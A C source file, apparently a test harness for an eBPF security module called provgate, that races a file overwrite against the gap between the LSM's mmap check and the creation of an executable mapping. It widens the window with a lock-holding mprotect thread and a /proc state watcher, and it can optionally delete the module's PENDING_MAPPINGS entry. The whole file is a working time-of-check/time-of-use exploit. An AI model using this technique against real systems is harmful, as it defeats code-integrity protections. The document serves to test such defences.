/* mmaprace LIB PAYLOAD SECONDS [MIB [forget]]: a write opened while LIB's executable mapping is being
 * made. mmap(2) asks the LSM first (security_mmap_file), then takes the address space's lock,
 * then adds the mapping: between the two, LIB has been checked but is not mapped yet, and a
 * write opened then finds nothing mapping it. The mapper (this process) maps LIB, a trusted
 * library, executable, calls its speak_raw(), and unmaps it, round after round; a writer (a
 * child) waits until the mapper sleeps on the lock, opens LIB for writing and writes PAYLOAD's
 * bytes (same size) in place. When the open lands in the window, the mapping shows PAYLOAD and
 * speak_raw() is PAYLOAD's, which prints PWNED. Otherwise the writer puts LIB's bytes back,
 * and the next round tries again, until SECONDS have passed.
 *
 * The window is widened by a thread of the mapper that keeps the lock busy: mprotect(2) over
 * MIB (64 by default; 0: no such thread, to measure what it buys) populated MiB holds the lock
 * while it rewrites every page's entry, and the thread toggles it without pause. Mapper and
 * thread share one CPU: a waiter spins instead of sleeping while the holder runs on another
 * CPU, and a spinning mapper cannot be told from one still in the LSM check. The writer runs on
 * another CPU and watches the mapper's state in /proc: asleep ('D') inside the mmap call means
 * past the check and waiting for the lock.
 *
 * With `forget` (root), the writer first deletes the mapper's entry in provgate's
 * PENDING_MAPPINGS (task storage, keyed by a pidfd), where the kernel side keeps what the check
 * rested on until the mapping exists: what tampering with that map would buy. */
#define _GNU_SOURCE
#include "bpfmap.h"
#include "elfcode.h"
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* What mapper and writer share: the mapper's step (round * 4 + phase) and the writer's
 * answers. Each word has one writer; the other side polls it. */
enum { MAPPING = 1, MAPPED = 2, UNMAPPED = 3 };
struct race {
    int step;
    int written;  /* last round the writer is done opening and writing in */
    int restored; /* last round whose bytes the writer has put back */
    unsigned opens_refused, writes;
};
#define LOAD(x) __atomic_load_n(&(x), __ATOMIC_SEQ_CST)
#define STORE(x, v) __atomic_store_n(&(x), (v), __ATOMIC_SEQ_CST)

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Waits until *word >= want, for at most `limit` seconds; polls gently, so that a waiting side
 * leaves its (emulated) CPU to the others. */
static int await(int *word, int want, double limit) {
    double until = now() + limit;
    while (LOAD(*word) < want) {
        if (now() > until) return -1;
        usleep(50);
    }
    return 0;
}

static void pin(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
}

/* Overwrites the file in place; 0 when it could not be opened for writing. */
static int overwrite(const char *path, const unsigned char *bytes, size_t size) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return 0;
    ssize_t n;
    size_t at = 0;
    while (at < size && (n = pwrite(fd, bytes + at, size - at, at)) > 0) at += n;
    close(fd);
    return 1;
}

/* The mapper's scheduling state, from /proc/PID/stat (the field after the command's name). */
static char state_of(int stat) {
    char buf[512];
    ssize_t n = pread(stat, buf, sizeof buf - 1, 0);
    if (n <= 0) return '?';
    buf[n] = 0;
    char *end = strrchr(buf, ')');
    return end && end[1] && end[2] ? end[2] : '?';
}

/* A descriptor of provgate's PENDING_MAPPINGS map; -1, and why, when none is reached. */
static int pending_mappings(void) {
    int fd = map_by_name("PENDING_MAPPINGS");
    if (fd < 0) printf("mmaprace: no PENDING_MAPPINGS map reached\n");
    return fd;
}

/* Deletes the mapper's entry: its check is then forgotten before its mapping is seen. */
static void forget(int map, int pidfd) {
    union bpf_attr attr = {0};
    attr.map_fd = map;
    attr.key = (unsigned long)&pidfd;
    sys_bpf(BPF_MAP_DELETE_ELEM, &attr);
}

static void writer(struct race *r, pid_t mapper, const char *lib, const unsigned char *payload,
                   const unsigned char *original, size_t size, int forget_map) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)mapper);
    int stat = open(path, O_RDONLY);
    int pidfd = forget_map >= 0 ? (int)syscall(SYS_pidfd_open, mapper, 0) : -1;
    for (int round = 1;; round++) {
        await(&r->step, round * 4 + MAPPING, 1e9);
        /* Asleep inside the mmap call: the LSM has passed the file, the mapping is not there
         * yet. (Opened any earlier, the write would come before the check, which would then
         * see PAYLOAD's bytes.) */
        int wrote = 0;
        while (LOAD(r->step) == round * 4 + MAPPING) {
            if (state_of(stat) != 'D') continue;
            if (pidfd >= 0) forget(forget_map, pidfd);
            wrote = overwrite(lib, payload, size);
            if (wrote) r->writes++;
            else r->opens_refused++;
            break;
        }
        STORE(r->written, round);
        /* Lost (the open came too late and was refused, or too early and the mapping was
         * refused): the trusted bytes go back for the next round. */
        await(&r->step, round * 4 + UNMAPPED, 1e9);
        if (wrote && !overwrite(lib, original, size)) {
            printf("mmaprace: could not restore %s: errno=%d\n", lib, errno);
            _exit(1);
        }
        STORE(r->restored, round);
    }
}

static char *region;
static size_t region_size;

/* Keeps the mapper's address-space lock held: each mprotect takes it for writing and keeps it
 * while it changes the protection of every page of the region. */
static void *hold_lock(void *unused) {
    (void)unused;
    for (;;) {
        mprotect(region, region_size, PROT_READ);
        mprotect(region, region_size, PROT_READ | PROT_WRITE);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    const char *lib = argv[1];
    double limit = atof(argv[3]);
    region_size = (argc > 4 ? atol(argv[4]) : 64) << 20;
    int forget_map = argc > 5 && !strcmp(argv[5], "forget") ? pending_mappings() : -1;
    setvbuf(stdout, NULL, _IONBF, 0);
    size_t size, payload_size;
    unsigned char *original = slurp(lib, &size), *payload = slurp(argv[2], &payload_size);
    if (!original || !payload || size != payload_size) {
        printf("mmaprace: %s and %s must be readable and of one size\n", lib, argv[2]);
        return 1;
    }
    long offset = code_offset(original, size, "speak_raw");
    if (offset < 0 || offset != code_offset(payload, size, "speak_raw")) {
        printf("mmaprace: speak_raw is not at one offset in both files\n");
        return 1;
    }
    int fd = open(lib, O_RDONLY);
    if (fd < 0) {
        printf("mmaprace: open-errno=%d\n", errno);
        return 1;
    }

    /* The mapper and its lock holder share the first CPU, the writer gets the second. */
    cpu_set_t cpus;
    sched_getaffinity(0, sizeof cpus, &cpus);
    int first = -1, second = -1;
    for (int c = 0; c < CPU_SETSIZE && second < 0; c++)
        if (CPU_ISSET(c, &cpus)) {
            if (first < 0) first = c;
            else second = c;
        }
    struct race *r = mmap(NULL, sizeof *r, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pid_t mapper = getpid(), child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        if (getppid() != mapper) _exit(0);
        pin(second >= 0 ? second : first);
        writer(r, mapper, lib, payload, original, size, forget_map);
    }
    pin(first);

    if (region_size) {
        /* Populated page by page: a huge page would be one entry to change, not 512. */
        region = mmap(NULL, region_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (region == MAP_FAILED) {
            printf("mmaprace: no memory for the lock holder: errno=%d\n", errno);
            return 1;
        }
        madvise(region, region_size, MADV_NOHUGEPAGE);
        memset(region, 1, region_size);
        pthread_t holder;
        pthread_create(&holder, NULL, hold_lock, NULL);
    }

    double start = now(), waited = 0;
    unsigned refused = 0;
    int tries = 0, won = 0;
    for (int round = 1; now() - start < limit; round++) {
        tries = round;
        STORE(r->step, round * 4 + MAPPING);
        double t = now();
        unsigned char *code = mmap(NULL, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
        waited += now() - t;
        STORE(r->step, round * 4 + MAPPED);
        /* The writer finishes its write before the code runs. */
        if (await(&r->written, round, 10) < 0) {
            printf("mmaprace: the writer did not answer in try %d\n", round);
            break;
        }
        if (code == MAP_FAILED) {
            refused++;
        } else {
            /* Only reported: what runs next is the mapped code, PAYLOAD's or LIB's. */
            won = !memcmp(code, payload, size);
            if (won)
                printf("mmaprace: the payload's bytes are mapped executable in try %d after %.1f s\n", round,
                       now() - start);
            ((long (*)(void))(code + offset))();
            munmap(code, size);
        }
        if (won) break;
        STORE(r->step, round * 4 + UNMAPPED);
        if (await(&r->restored, round, 10) < 0) {
            printf("mmaprace: the writer did not restore %s in try %d\n", lib, round);
            break;
        }
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    printf("mmaprace: %s after %d tries in %.1f s: %u writes, %u opens refused, %u mappings refused, "
           "%.1f ms in mmap on average\n",
           won ? "won" : "lost", tries, now() - start, LOAD(r->writes), LOAD(r->opens_refused), refused,
           tries ? 1000 * waited / tries : 0.0);
    return 0;
}
